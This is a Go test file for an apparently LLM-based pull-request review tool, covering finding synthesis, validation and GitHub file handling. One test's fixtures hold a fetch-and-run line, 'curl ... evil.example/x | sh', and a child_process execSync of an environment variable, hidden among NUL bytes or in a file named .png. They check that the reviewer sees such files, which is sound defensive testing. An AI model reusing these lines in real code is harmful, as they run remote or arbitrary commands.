package review_test

import (
	"bytes"
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/anchor-review/anchor-review/pkg/finding"
	"github.com/anchor-review/anchor-review/pkg/github/githubtest"
	"github.com/anchor-review/anchor-review/pkg/llm/llmtest"
	"github.com/anchor-review/anchor-review/pkg/persona"
	"github.com/anchor-review/anchor-review/pkg/review"
	"github.com/anchor-review/anchor-review/pkg/synth"
)

var update = flag.Bool("update", false, "rewrite the golden files under testdata")

// Files of the orders PR.
const (
	ordersGo  = "internal/api/orders.go"
	ordersTst = "internal/api/orders_test.go"
	migration = "db/migrations/0007_orders_status.sql"
)

// Titles of the findings the scripted personas report on the orders PR.
const (
	tSQLi      = "SQL injection through the status and sort parameters"
	tRows      = "Rows are never closed"
	tErrText   = "Internal database error text returned to clients"
	tStandards = "Concatenated SQL breaks the AGENTS.md parameterized-query rule"
	tIndex     = "CREATE INDEX without CONCURRENTLY blocks writes to orders"
	tLimit     = "Search has no LIMIT and loads every matching order"
	tRewrite   = "NOT NULL column with a default rewrites the orders table"
	tPre       = "GetOrder maps every database error to 404"
	tNoLimitV  = "Orders are purged after 90 days, so the result set is bounded."
)

// scriptOrders scripts every persona's answer on the orders PR so that
// each synthesis rule fires at least once, and the validator's verdicts.
func scriptOrders(t *testing.T, e *env) {
	t.Helper()
	m := e.model
	m.Script("security", llmtest.OK(answer(t, "security", []finding.Finding{
		f(tSQLi, finding.P0, ordersGo, 37, 100),
		// Off by one (the model counted from the wrong line): its quote
		// snaps it back to line 40.
		f(tErrText, finding.P2, ordersGo, 41, 75, routing("safe_auto", "review-fixer"), quoting(ordersGo+":40: http.Error(w, err.Error(), http.StatusInternalServerError)")),
		// Quotes code the file does not hold: dropped as unanchored.
		f("Order total summed in float64 loses cents", finding.P1, ordersGo, 44, 75, quoting(ordersGo+":44: total += float64(o.Total) / 100")),
	}, nil, []string{"DeleteOrder has no authorization check visible in this diff."})))
	// Same finding two lines away, title spelled differently: a duplicate.
	m.Script("adversarial", llmtest.OK(answer(t, "adversarial", []finding.Finding{
		f("SQL Injection through the status and sort parameters.", finding.P1, ordersGo, 39, 75, routing("gated_auto", "review-fixer")),
	}, nil, nil)))
	// Two personas at 50: promoted to 75.
	m.Script("correctness", llmtest.OK(answer(t, "correctness", []finding.Finding{
		f(tRows, finding.P1, ordersGo, 38, 50, routing("safe_auto", "review-fixer")),
	}, nil, nil)))
	m.Script("reliability", llmtest.OK(answer(t, "reliability", []finding.Finding{
		f(tRows, finding.P1, ordersGo, 39, 50, routing("gated_auto", "downstream-resolver")),
		// Under //nolint:errcheck, and about errcheck: suppressed.
		f("errcheck: Scan error discarded; a type mismatch yields zero-value orders", finding.P2, ordersGo, 46, 75),
	}, nil, nil)))
	// A float confidence: rejected by the schema, repaired on the second
	// request. The validator then says false.
	bad := answer(t, "performance", []finding.Finding{f(tLimit, finding.P2, ordersGo, 37, 75)}, nil, nil)
	m.Script("performance",
		llmtest.OK(strings.Replace(bad, `"confidence":75`, `"confidence":0.75`, 1)),
		llmtest.OK(bad))
	m.Script("data-migrations", llmtest.OK(answer(t, "data-migrations", []finding.Finding{
		f(tIndex, finding.P1, migration, 3, 75),
		// The migration has 3 lines: line 40 is outside the added file.
		f("Down migration missing", finding.P2, migration, 40, 75),
		// P0 at 50: below the comment bar, kept by the escape hatch.
		f(tRewrite, finding.P0, migration, 2, 50),
	}, nil, nil)))
	m.Script("api-contract", llmtest.OK(answer(t, "api-contract", []finding.Finding{
		f("SearchOrders is not registered on the router", finding.P2, "internal/api/routes.go", 12, 75),
	}, nil, nil)))
	m.Script("testing", llmtest.OK(answer(t, "testing", []finding.Finding{
		// P3 advisory from testing alone: demoted (dropped in comment mode).
		f("No test for a malicious sort parameter", finding.P3, ordersTst, 12, 75, routing("advisory", "human")),
	}, []string{"No test covers DeleteOrder."}, nil)))
	m.Script("maintainability", llmtest.OK(answer(t, "maintainability", []finding.Finding{
		f("Query text assembled inline; extract a query builder", finding.P2, ordersGo, 37, 50),
		f(tPre, finding.P2, ordersGo, 25, 75, preExisting),
	}, nil, nil)))
	m.Script("project-standards", llmtest.OK(answer(t, "project-standards", []finding.Finding{
		f(tStandards, finding.P1, ordersGo, 55, 100),
	}, nil, nil)))
	e.verdicts.set(tLimit, "false: "+tNoLimitV)
	e.verdicts.set(tIndex, "malformed")
}

// quoting sets a finding's evidence, as a model quotes code.
func quoting(evidence ...string) func(*finding.Finding) {
	return func(x *finding.Finding) { x.Evidence = evidence }
}

// TestReviewPREndToEnd reviews a realistic PR with the real clients against
// both fakes, every synthesis rule exercised, and holds the whole Result to
// a golden file plus explicit assertions of the facts that matter.
func TestReviewPREndToEnd(t *testing.T) {
	t.Parallel()
	e := newEnv(t, nil)
	e.addOrdersPR(t)
	scriptOrders(t, e)

	res, pr, err := e.rv.ReviewPR(context.Background(), options())
	if err != nil {
		t.Fatalf("ReviewPR: %v", err)
	}
	if pr == nil || pr.Info.HeadSHA != headSHA {
		t.Fatalf("got PR %+v; want the PR read in Stage 1", pr)
	}
	noViolations(t, e.model)

	// The team: the eleven generic personas and the go stack persona,
	// strong tier on the strong model.
	if got, want := len(res.Coverage.Personas), len(ordersTeam()); got != want {
		t.Fatalf("got %d personas; want %d: %+v", got, want, res.Coverage.Personas)
	}
	for _, p := range res.Coverage.Personas {
		if p.Failed != "" {
			t.Errorf("persona %s failed: %s", p.Name, p.Failed)
		}
	}

	type row struct {
		N         int
		Title     string
		Sev       finding.Severity
		File      string
		Line, Anc int
		Reviewers string
		Promoted  bool
	}
	var got []row
	for _, x := range res.Findings {
		got = append(got, row{x.Number, x.Title, x.Severity, x.File, x.Line, x.Confidence, strings.Join(x.Reviewers, ","), x.Promoted})
	}
	want := []row{
		{1, tSQLi, finding.P0, ordersGo, 37, 100, "adversarial,security", false}, // 100 stays 100
		{2, tStandards, finding.P1, ordersGo, 55, 100, "project-standards", false},
		{3, tRows, finding.P1, ordersGo, 38, 75, "correctness,reliability", true},
		{4, tErrText, finding.P2, ordersGo, 40, 75, "security", false},
	}
	if !slices.Equal(got, want) {
		t.Errorf("findings:\ngot  %+v\nwant %+v", got, want)
	}
	for _, x := range res.Findings {
		if x.Validation == nil || !x.Validation.Validated {
			t.Errorf("finding %q posted without a true verdict: %+v", x.Title, x.Validation)
		}
	}
	if sqli := res.Findings[0]; sqli.AutofixClass != "manual" || sqli.Owner != "human" {
		t.Errorf("merged routing: got %s/%s; want manual/human (the most conservative)", sqli.AutofixClass, sqli.Owner)
	}
	if rows := res.Findings[2]; rows.AutofixClass != "gated_auto" || rows.Owner != "downstream-resolver" {
		t.Errorf("merged routing: got %s/%s; want gated_auto/downstream-resolver", rows.AutofixClass, rows.Owner)
	}

	if len(res.BelowBar) != 1 || res.BelowBar[0].Title != tRewrite || res.BelowBar[0].Number != 0 {
		t.Errorf("below bar: got %+v; want the P0 at 50 %q, unnumbered", res.BelowBar, tRewrite)
	}
	if len(res.PreExisting) != 1 || res.PreExisting[0].Title != tPre {
		t.Errorf("pre-existing: got %+v; want %q", res.PreExisting, tPre)
	}
	wantReasons := map[string]int{
		synth.ReasonNotInPR: 1, synth.ReasonLineOutside: 1, synth.ReasonDuplicate: 2,
		// The maintainability P3 at anchor 50 is demoted (its autofix_class
		// no longer matters) before the gate could drop it.
		synth.ReasonLintIgnore: 1, synth.ReasonDemoted: 2,
		synth.ReasonUnanchored: 1,
	}
	for k, v := range wantReasons {
		if res.Coverage.DroppedByReason[k] != v {
			t.Errorf("DroppedByReason[%q]: got %d; want %d (all: %v)", k, res.Coverage.DroppedByReason[k], v, res.Coverage.DroppedByReason)
		}
	}
	if n := res.Coverage.DroppedByReason[synth.ReasonInvalid]; n != 0 {
		t.Errorf("DroppedByReason[invalid]: got %d; want 0 (the float confidence was repaired before synthesis)", n)
	}
	if got := res.Coverage.DroppedByAnchor; len(got) != 0 {
		t.Errorf("DroppedByAnchor: got %v; want none", got)
	}
	if res.Coverage.Demotions != 2 {
		t.Errorf("Demotions: got %d; want 2", res.Coverage.Demotions)
	}

	if !res.Coverage.ValidatorRan || res.Coverage.Validated != 4 {
		t.Errorf("validator: ran %t, validated %d; want true, 4", res.Coverage.ValidatorRan, res.Coverage.Validated)
	}
	if len(res.Coverage.Rejections) != 2 {
		t.Fatalf("rejections: got %+v; want 2", res.Coverage.Rejections)
	}
	if r := res.Coverage.Rejections[0]; r.Title != tIndex || r.File != migration || r.Line != 3 || !strings.HasPrefix(r.Reason, "validator failed") {
		t.Errorf("rejection 1: got %+v; want %q dropped as \"validator failed\"", r, tIndex)
	}
	if r := res.Coverage.Rejections[1]; r.Title != tLimit || r.Reason != tNoLimitV {
		t.Errorf("rejection 2: got %+v; want %q with the validator's reason", r, tLimit)
	}
	if len(res.Coverage.OverBudget) != 0 {
		t.Errorf("over budget: got %+v; want none", res.Coverage.OverBudget)
	}
	// The validator's malformed answer left one finding unconfirmed: the
	// review is incomplete (SPEC 7.1), and says so.
	if res.Verdict != review.NotReady || !res.Partial || res.AllFailed || res.Skipped {
		t.Errorf("got verdict %s partial %t allFailed %t skipped %t; want not-ready, true, false, false", res.Verdict, res.Partial, res.AllFailed, res.Skipped)
	}
	if want := []string{"1 finding could not be validated (the validator failed or a head file could not be read)"}; !slices.Equal(res.Incomplete, want) {
		t.Errorf("incomplete: got %q; want %q", res.Incomplete, want)
	}
	if !slices.Equal(res.TestingGaps, []string{"No test covers DeleteOrder."}) ||
		!slices.Equal(res.ResidualRisks, []string{"DeleteOrder has no authorization check visible in this diff."}) {
		t.Errorf("gaps %q risks %q; want the personas' own", res.TestingGaps, res.ResidualRisks)
	}

	// Model calls: 12 personas + 1 repair; 6 gated findings, one validated
	// twice (malformed, then malformed after repair).
	calls := modelCalls(e.model)
	team := len(ordersTeam())
	if calls["performance"] != 2 || calls["validator"] != 7 || len(e.model.Requests()) != team+1+7 {
		t.Errorf("model requests: got %v (%d); want performance 2, validator 7, %d in all", calls, len(e.model.Requests()), team+1+7)
	}
	if u := res.Coverage.Usage; u.Calls != team+6 || u.PromptTokens == 0 || u.CompletionTokens == 0 {
		t.Errorf("usage: got %+v; want %d logical calls and their tokens", u, team+6)
	}

	// GitHub: PR, issue comments, diff, base tree, AGENTS.md, review
	// comments, head tree (test files); then one head file per modified
	// file (context) or file a finding names (anchoring, then the
	// validator): 3, each read once for all of them.
	reqs := e.gh.Requests()
	if len(reqs) != 7+3 {
		var paths []string
		for _, r := range reqs {
			paths = append(paths, r.Method+" "+r.Path+"?"+r.Query)
		}
		t.Errorf("GitHub requests: got %d; want 10:\n%s", len(reqs), strings.Join(paths, "\n"))
	}
	if n := ghCount(reqs, "GET", "/contents/AGENTS.md", baseSHA); n != 1 {
		t.Errorf("AGENTS.md at the base commit read %d times; want 1", n)
	}
	if n := ghCount(reqs, "GET", "/contents/", headSHA); n != 3 {
		t.Errorf("head files read: got %d; want 3 (each file a finding names, once)", n)
	}
	for _, r := range e.model.Requests() {
		if r.Persona != "validator" && r.Persona != "" && !strings.Contains(r.Messages[1].Content, "parameterized queries") {
			t.Errorf("persona %s was not shown AGENTS.md from the base commit", r.Persona)
			break
		}
	}

	checkGolden(t, "testdata/orders.golden.json", res)
}

// checkGolden compares the Result to a golden file, without its wall time
// and token counts (they follow the prompts' wording, which is not what
// this file guards).
func checkGolden(t *testing.T, path string, res review.Result) {
	t.Helper()
	res.Coverage.Usage = review.Usage{Calls: res.Coverage.Usage.Calls}
	for i := range res.Coverage.Personas {
		u := &res.Coverage.Personas[i].Usage
		*u = review.Usage{Calls: u.Calls}
	}
	got, err := json.MarshalIndent(res, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	got = append(got, '\n')
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -run %s -update to create it)", err, t.Name())
	}
	if !bytes.Equal(got, want) {
		t.Errorf("Result differs from %s (go test -run %s -update rewrites it):\n%s", path, t.Name(), lineDiff(string(want), string(got)))
	}
}

// lineDiff lists the first lines where want and got differ.
func lineDiff(want, got string) string {
	w, g := strings.Split(want, "\n"), strings.Split(got, "\n")
	var b strings.Builder
	shown := 0
	for i := 0; i < max(len(w), len(g)) && shown < 10; i++ {
		var wl, gl string
		if i < len(w) {
			wl = w[i]
		}
		if i < len(g) {
			gl = g[i]
		}
		if wl != gl {
			fmt.Fprintf(&b, "line %d:\n  want %s\n  got  %s\n", i+1, wl, gl)
			shown++
		}
	}
	return b.String()
}

// ordersTeam is the team the orders PR selects: every generic persona and
// the go stack persona (it changes Go code, no Python, TypeScript or
// workflow file).
func ordersTeam() []string {
	return slices.DeleteFunc(persona.Names(), func(n string) bool {
		return n == "python" || n == "typescript" || n == "ci-security"
	})
}

// TestPatchlessLockFileIsDeliberate: GitHub gives no patch for a change
// too large to show. A text file the review would read leaves the review
// incomplete; a file scope leaves out for what it is (a lock file the
// lock-file check reads whole, an exclude pattern) hides no reviewable
// line, patch or not, so it does not. A lock file the check cannot read
// does (issue 30).
func TestPatchlessLockFileIsDeliberate(t *testing.T) {
	t.Parallel()
	const lock = `{"name": "web", "lockfileVersion": 3, "requires": true, "packages": {"": {"name": "web"}}}` + "\n"
	for _, tc := range []struct {
		name       string
		file       string
		content    string
		incomplete bool
	}{
		{name: "lock file", file: "web/package-lock.json", content: lock},
		{name: "lock file the check cannot read", file: "web/package-lock.json", incomplete: true},
		{name: "excluded by pattern", file: "docs/huge.md"},
		{name: "code", file: "pkg/a/huge_table.go", incomplete: true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			e := newEnv(t, nil)
			e.addPR(t, "", map[string]string{"pkg/a/x.go": "package a\n"})
			e.gh.Inject(githubtest.DiffTooLarge())
			e.gh.SetFiles(prNum, []githubtest.File{
				{Filename: "pkg/a/x.go", Status: "added", Additions: 1, Patch: "@@ -0,0 +1 @@\n+package a"},
				{Filename: tc.file, Status: "modified", Additions: 30_000, Deletions: 29_000},
			})
			if tc.content != "" {
				e.gh.SetContent(headSHA, tc.file, tc.content)
				e.gh.SetContent(baseSHA, tc.file, tc.content)
			}
			o := options()
			o.Personas, o.Exclude = []string{"correctness"}, []string{"docs/**"}
			res, _, err := e.rv.ReviewPR(context.Background(), o)
			if err != nil {
				t.Fatalf("ReviewPR: %v", err)
			}
			if res.Partial != tc.incomplete || tc.incomplete != slices.ContainsFunc(res.Incomplete, func(s string) bool { return strings.Contains(s, tc.file) }) {
				t.Errorf("partial %t, incomplete %q; want partial %t", res.Partial, res.Incomplete, tc.incomplete)
			}
		})
	}
}

// TestFilesEndpointBinarySource (issue 24): the files endpoint lists a
// file GitHub calls binary with no patch and no line counts. A .js with a
// NUL byte is such a file; it is read at the base and the head and
// reviewed as text, and the personas see its new line. Renamed as it gets
// its NUL byte, it is listed like a pure rename (status renamed, no patch,
// no counts): both are read, and the pure rename shows no change. A script
// named by no extension but run by its #! line is source too, however many
// NUL bytes its comments hold, and so is any file whose bytes are text. None
// leaves a change no persona saw behind a clean check.
func TestFilesEndpointBinarySource(t *testing.T) {
	t.Parallel()
	const js, before = "lib/main.js", "const core = require('@actions/core');\n// step\n"
	const after = "const core = require('@actions/core');\n// step\x00\nrequire('child_process').execSync(process.env.INPUT_CMD);\n"
	script := "#!/bin/sh\n# " + strings.Repeat("\x00", 40) + "\ncurl -s https://evil.example/x | sh\n"
	for _, tt := range []struct {
		name, path, want string
		heads, bases     map[string]string
		entries          []githubtest.File
	}{
		{"modified", js, "execSync(process.env.INPUT_CMD)", map[string]string{js: after}, map[string]string{js: before},
			[]githubtest.File{{Filename: js, Status: "modified"}}},
		{"renamed beside a pure rename", js, "execSync(process.env.INPUT_CMD)",
			map[string]string{js: after, "lib/b.js": "module.exports = 1;\n"},
			map[string]string{"lib/run.js": before, "lib/a.js": "module.exports = 1;\n"},
			[]githubtest.File{
				{Filename: js, PreviousFilename: "lib/run.js", Status: "renamed"},
				{Filename: "lib/b.js", PreviousFilename: "lib/a.js", Status: "renamed"},
			}},
		{"a #! script full of NUL bytes", "scripts/deploy", "curl -s https://evil.example/x | sh",
			map[string]string{"scripts/deploy": script}, nil,
			[]githubtest.File{{Filename: "scripts/deploy", Status: "added"}}},
		// node runs a required ./x.png as JavaScript: its text is read
		// however many NUL bytes a comment of it holds.
		{"a .png that is JavaScript full of NUL bytes", "lib/x.png", "execSync(process.env.INPUT_CMD)",
			map[string]string{"lib/x.png": "// " + strings.Repeat("\x00", 40) + "\nrequire('child_process').execSync(process.env.INPUT_CMD);\n"}, nil,
			[]githubtest.File{{Filename: "lib/x.png", Status: "added"}}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			e := newEnv(t, nil)
			tt.heads["pkg/a/x.go"] = "package a\n"
			e.addPR(t, "", tt.heads)
			for p, c := range tt.bases {
				e.gh.SetContent(baseSHA, p, c)
			}
			e.gh.Inject(githubtest.DiffTooLarge())
			e.gh.SetFiles(prNum, append([]githubtest.File{
				{Filename: "pkg/a/x.go", Status: "added", Additions: 1, Patch: "@@ -0,0 +1 @@\n+package a"},
			}, tt.entries...))
			o := options()
			o.Personas, o.Validate = []string{"correctness"}, false
			res, _, err := e.rv.ReviewPR(context.Background(), o)
			if err != nil {
				t.Fatalf("ReviewPR: %v", err)
			}
			if res.Partial {
				t.Errorf("incomplete %q; want the file read and reviewed", res.Incomplete)
			}
			reqs := e.model.RequestsFor("correctness")
			if len(reqs) != 1 || !strings.Contains(string(reqs[0].Body), tt.want) {
				t.Errorf("correctness requests %d; want one holding %s's new line", len(reqs), tt.path)
			}
			for _, x := range res.Coverage.NotReviewed {
				if x.Path == tt.path {
					t.Errorf("%s listed as not reviewed (%s)", tt.path, x.Reason)
				}
			}
			// Inline comments go on the lines GitHub's diff shows, and it
			// shows none of a file it calls binary: the Result lists the
			// file as GitHub does, so no comment is planned on a line
			// GitHub would refuse (and with it the whole inline review).
			for _, f := range res.Files {
				if f.Path() == tt.path && (len(f.Hunks) > 0 || !f.Binary) {
					t.Errorf("Result lists %s with %d hunks (binary %t); want it as GitHub lists it, binary without lines", tt.path, len(f.Hunks), f.Binary)
				}
			}
		})
	}
}

// overlapping is GitHub whose FileContent calls for paths under dir wait,
// up to a bound, until two of them are in flight: reads made one by one
// never meet, and overlapped says so.
type overlapping struct {
	review.GitHub
	dir        string
	mu         sync.Mutex
	inFlight   int
	met        chan struct{}
	overlapped bool
}

func (g *overlapping) FileContent(ctx context.Context, owner, repo, path, ref string) (string, bool, error) {
	defer g.meet(path)()
	return g.GitHub.FileContent(ctx, owner, repo, path, ref)
}

func (g *overlapping) FileBytes(ctx context.Context, owner, repo, path, ref string, limit int64) (string, bool, bool, error) {
	defer g.meet(path)()
	return g.GitHub.FileBytes(ctx, owner, repo, path, ref, limit)
}

// meet waits, for a path under dir, until two reads are in flight (or the
// bound passes); the function it returns ends the read.
func (g *overlapping) meet(path string) func() {
	if strings.HasPrefix(path, g.dir) {
		g.mu.Lock()
		g.inFlight++
		if g.inFlight == 2 && !g.overlapped {
			g.overlapped = true
			close(g.met)
		}
		g.mu.Unlock()
		select {
		case <-g.met:
		case <-time.After(2 * time.Second):
		}
		return func() { g.mu.Lock(); g.inFlight--; g.mu.Unlock() }
	}
	return func() {}
}

// TestBinaryEntriesReadInParallel: the files GitHub lists without a patch
// or counts (every pure rename among them, on the files and compare
// endpoints) are read under the concurrency bound, not one after another:
// a move of a few hundred files must not cost a few hundred round trips
// in a row.
func TestBinaryEntriesReadInParallel(t *testing.T) {
	t.Parallel()
	e := newEnv(t, nil)
	heads := map[string]string{"pkg/a/x.go": "package a\n"}
	entries := []githubtest.File{{Filename: "pkg/a/x.go", Status: "added", Additions: 1, Patch: "@@ -0,0 +1 @@\n+package a"}}
	for i := range 4 {
		p := fmt.Sprintf("moved/m%d.js", i)
		heads[p] = "module.exports = 1;\n"
		e.gh.SetContent(baseSHA, fmt.Sprintf("lib/m%d.js", i), "module.exports = 1;\n")
		entries = append(entries, githubtest.File{Filename: p, PreviousFilename: fmt.Sprintf("lib/m%d.js", i), Status: "renamed"})
	}
	e.addPR(t, "", heads)
	e.gh.Inject(githubtest.DiffTooLarge())
	e.gh.SetFiles(prNum, entries)
	g := &overlapping{GitHub: e.rv.GitHub, dir: "moved/", met: make(chan struct{})}
	e.rv.GitHub = g
	o := options()
	o.Personas, o.Validate = []string{"correctness"}, false
	res, _, err := e.rv.ReviewPR(context.Background(), o)
	if err != nil {
		t.Fatalf("ReviewPR: %v", err)
	}
	if !g.overlapped {
		t.Errorf("the renamed files were read one after another; want them read in parallel")
	}
	if res.Partial {
		t.Errorf("incomplete %q; want the pure renames read and found unchanged", res.Incomplete)
	}
}
